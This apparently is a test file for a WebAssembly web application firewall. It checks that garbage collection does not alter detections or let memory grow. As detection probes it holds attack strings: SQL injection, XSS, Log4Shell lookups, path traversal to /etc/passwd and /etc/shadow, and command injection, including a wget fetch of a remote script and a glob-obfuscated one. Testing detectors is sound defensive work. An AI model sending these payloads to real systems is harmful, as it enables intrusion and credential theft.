// The release module collects garbage in the middle of long bodies (safe points between two
// values, engine/request/safepoint.ts). A collection that freed something still in use would
// change what the filter finds, or trap: compare its findings on bodies of many batches with
// the harness build's (another runtime, whose collector sees every local).
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { runRequest, type Emulator } from "../../src/host/index.js";
import { decisions, loadFilter } from "../support/filter.js";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect } from "../support/engine.js";

let h: Harness;
let em: Emulator;
beforeAll(async () => {
  h = await loadHarness();
  em = await loadFilter({ mode: "detect", bodyLimit: 4 * 1024 * 1024 });
});

const WORDS = ["alpha", "widget", "O'Brien", "select the blue one", "a.b.c", "x=1", "path/to/file"];
const ATTACKS = ["1' OR '1'='1", "<script>alert(1)</script>", "; cat /etc/passwd", "${jndi:ldap://x/a}", "../../../../etc/shadow"];

function bodies(values: string[]): [string, string][] {
  const esc = (v: string) => v.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/'/g, "&apos;");
  return [
    ["application/json", JSON.stringify({ items: values.map((v, i) => ({ id: i, v })) })],
    ["application/x-www-form-urlencoded", values.map((v, i) => `f${i}=${encodeURIComponent(v)}`).join("&")],
    ["application/xml", "<r>" + values.map((v) => `<v a="${esc(v)}">${esc(v)}</v>`).join("") + "</r>"],
    ["multipart/form-data; boundary=XyZ", values.map((v, i) => `--XyZ\r\nContent-Disposition: form-data; name="f${i}"\r\n\r\n${v}\r\n`).join("") + "--XyZ--\r\n"],
  ];
}

const nonProtocol = (ids: number[]) => [...new Set(ids.filter((id) => id >= 2000))].sort((a, b) => a - b);

describe("collection inside long bodies", () => {
  it("finds what the harness finds, at any position, in bodies of many batches", () => {
    const value = fc.oneof(fc.constantFrom(...WORDS), fc.constantFrom(...WORDS), fc.constantFrom(...WORDS), fc.constantFrom(...ATTACKS));
    fc.assert(
      fc.property(fc.array(value, { minLength: 2500, maxLength: 3000 }), (values) => {
        for (const [contentType, body] of bodies(values)) {
          const out = runRequest(em, { method: "POST", path: "/api", authority: "svc.local", headers: [["content-type", contentType]], body });
          expect(out.failed).toBe(false);
          const line = decisions(out.logs)[0];
          const mine = nonProtocol(line ? line.rules : []);
          const theirs = nonProtocol(inspect(h, { method: "POST", path: "/api", headers: [["host", "svc.local"], ["content-type", contentType]], body }).matches.map((m) => m.id));
          expect(mine, contentType).toEqual(theirs);
        }
      }),
      { numRuns: 2 },
    );
    // Memory stays bounded: the garbage of one batch group at a time, not of the whole body.
    expect((em.memory() as unknown as { memory: WebAssembly.Memory }).memory.buffer.byteLength).toBeLessThanOrEqual(16 * 1024 * 1024);
  });
});

describe("collection between streams", () => {
  it("collects after every few KB of request bodies, so their garbage does not keep doubling linear memory", async () => {
    const fresh = await loadFilter({ mode: "detect" });
    // 500 form values (~8 KB): inspecting them leaves garbage many times the body's size.
    const body = Array.from({ length: 500 }, (_, i) => `f${i}=${encodeURIComponent(WORDS[i % WORDS.length])}`).join("&");
    for (let i = 0; i < 64; i++) {
      const out = runRequest(fresh, { method: "POST", path: "/api", authority: "svc.local", headers: [["content-type", "application/x-www-form-urlencoded"]], body });
      expect(out.blocked).toBe(false);
    }
    // Collecting only every few streams (32 then; or when memory grew) let these 64 requests take 16 MiB.
    expect((fresh.memory() as unknown as { memory: WebAssembly.Memory }).memory.buffer.byteLength).toBeLessThanOrEqual(2 * 1024 * 1024);
  });
});

describe("collection every few streams", () => {
  it("keeps memory bounded over many bodiless requests with large headers, the kind no byte count triggers a collection for", async () => {
    const fresh = await loadFilter({ mode: "detect" });
    // each request its own 8 KB of cookies and a long query: nothing shared with the request before
    for (let i = 0; i < 512; i++) {
      const cookie = Array.from({ length: 100 }, (_, k) => `c${k}=${i}-${k}-${"v".repeat(60)}`).join("; ");
      const query = Array.from({ length: 100 }, (_, k) => `q${k}=${i}x${k}`).join("&");
      const out = runRequest(fresh, { path: "/api/items?" + query, authority: "svc.local", headers: [["cookie", cookie]] });
      expect(out.blocked).toBe(false);
    }
    expect((fresh.memory() as unknown as { memory: WebAssembly.Memory }).memory.buffer.byteLength).toBeLessThanOrEqual(2 * 1024 * 1024);
  });
});

describe("one request after another", () => {
  it("inspects each request afresh: targets, repeats and matches of the one before do not carry over", async () => {
    const fresh = await loadFilter({ mode: "detect" });
    const attack = "1' OR '1'='1";
    const run = (path: string) => {
      const lines = decisions(runRequest(fresh, { path, authority: "svc.local" }).logs);
      return lines.length === 0 ? [] : nonProtocol(lines[0].rules);
    };
    const first = run("/?a=" + encodeURIComponent(attack));
    expect(first.length).toBeGreaterThan(0);
    // past the first few dozen targets a request remembers what it inspected (engine/seen.ts): not for the next one
    const longQuery = "/?" + Array.from({ length: 40 }, (_, i) => `f${i}=w${i}`).join("&") + "&a=" + encodeURIComponent(attack);
    expect(run(longQuery)).toEqual(first);
    expect(run(longQuery)).toEqual(first);
    // the same value again, alone, after other values, and twice in one request (a repeat is skipped only within a request)
    expect(run("/?a=" + encodeURIComponent(attack))).toEqual(first);
    expect(run("/?q=hello")).toEqual([]);
    expect(run("/?b=plain&c=words&a=" + encodeURIComponent(attack))).toEqual(first);
    expect(run("/?a=" + encodeURIComponent(attack) + "&a=" + encodeURIComponent(attack))).toEqual(first);
    // a body of many batches, then a small request: each finds only its own
    const many = Array.from({ length: 2500 }, (_, i) => `f${i}=w${i % 7}`).join("&") + "&last=" + encodeURIComponent("<script>alert(1)</script>");
    const big = decisions(runRequest(fresh, { method: "POST", path: "/api", authority: "svc.local", headers: [["content-type", "application/x-www-form-urlencoded"]], body: many }).logs)[0];
    expect(nonProtocol(big.rules).every((id) => id >= 3000 && id < 4000)).toBe(true);
    expect(run("/?q=hello")).toEqual([]);
    expect(run("/?a=" + encodeURIComponent(attack))).toEqual(first);
  });
});

describe("tables outside the collected heap", () => {
  it("finds what word lists and command tables find (tools, keywords, file names, commands) after many collections", async () => {
    const fresh = await loadFilter({ mode: "detect" });
    const rules = (spec: Parameters<typeof runRequest>[1]) => {
      const line = decisions(runRequest(fresh, spec).logs)[0];
      return line ? nonProtocol(line.rules) : [];
    };
    const probes: Parameters<typeof runRequest>[1][] = [
      { path: "/", authority: "svc.local", headers: [["user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"]] },
      { path: "/?id=" + encodeURIComponent("1 UNION SELECT username, password FROM users--"), authority: "svc.local" },
      { path: "/?f=" + encodeURIComponent("../../../../etc/passwd"), authority: "svc.local" },
      // command words, and a glob that spells one
      { path: "/?c=" + encodeURIComponent("x; wget http://203.0.113.9/a.sh"), authority: "svc.local" },
      { path: "/?c=" + encodeURIComponent("x;/b?n/c?t /e?c/p?sswd"), authority: "svc.local" },
    ];
    const before = probes.map(rules);
    for (const r of before) expect(r.length).toBeGreaterThan(0);
    // bodies of 16 KB and more: a collection after each stream
    const big = { method: "POST", path: "/notes", authority: "svc.local", headers: [["content-type", "text/plain"]] as [string, string][], body: "plain words ".repeat(1500) };
    for (let round = 0; round < 20; round++) {
      runRequest(fresh, big);
      expect(probes.map(rules)).toEqual(before);
    }
  });

  it("names categories, verdicts, methods, headers and body problems from static string tables after many collections", async () => {
    const fresh = await loadFilter({ mode: "detect" });
    const probe = {
      method: "PATCH",
      path: "/?u=" + encodeURIComponent("javascript:alert(1)") + "&j=" + encodeURIComponent("${${lower:j}ndi:ldap://x/a}"),
      authority: "svc.local",
      headers: [["user-agent", "sqlmap/1.7"], ["content-type", "application/json"]] as [string, string][],
      body: '{"a": [1,',
    };
    const line = () => {
      const d = decisions(runRequest(fresh, probe).logs)[0];
      return { verdict: d.verdict, method: d.method, categories: d.categories, matches: d.matches };
    };
    const before = line();
    expect(before.verdict).toBe("detected");
    expect(before.method).toBe("PATCH");
    expect(before.categories).toEqual(expect.arrayContaining(["protocol", "xss", "java", "scanner"]));
    const reasons = before.matches.map((m: { target: string; reason: string }) => m.target + " " + m.reason);
    expect(reasons).toEqual(expect.arrayContaining(["body malformed JSON", "args:u script URL scheme", "header:user-agent scanner user agent"]));
    const big = { method: "POST", path: "/notes", authority: "svc.local", headers: [["content-type", "text/plain"]] as [string, string][], body: "plain words ".repeat(1500) };
    for (let round = 0; round < 20; round++) {
      runRequest(fresh, big);
      expect(line()).toEqual(before);
    }
  });
});
